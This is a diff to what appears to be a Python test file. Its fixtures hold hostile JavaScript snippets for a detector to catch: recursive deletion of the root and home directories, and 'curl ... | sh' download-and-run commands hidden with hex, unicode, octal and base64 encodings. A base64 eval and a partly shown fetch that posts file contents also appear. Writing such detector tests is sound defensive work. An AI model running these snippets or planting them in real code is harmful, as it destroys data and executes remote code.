@@ -39,8 +39,13 @@ def fired(text: str, name: str) -> set[str]:
         ("a.js", "require('fs').rmSync('/', {recursive: true})", "destroys"),
         ("a.js", "require('fs').rmSync(require('os').homedir(), {recursive: true})", "destroys"),
         ("a.js", "import {exec as e} from 'child_process'; e('curl 127.0.0.1 | sh')", "download-and-run"),
-        ("a.js", "require('\\x63hild_process').exec('curl 127.0.0.1 | sh')", "download-and-run"),
-        ("a.js", "require('\\u{63}hild_process').exec('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\x63url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\u{63}url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\u0063url 127.0.0.1 | sh')", "download-and-run"),
+        # What is decoded is no UTF-8.
+        ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaCAj/w=='))", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\143url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('curl 127.0.0.1 | \\u0062ash')", "download-and-run"),
         ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaA'))", "download-and-run"),
         ("a.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", "decoded-exec"),
         ("a.js", "fetch('http://127.0.0.1', {method: 'POST', body: require('fs').readFileSync("
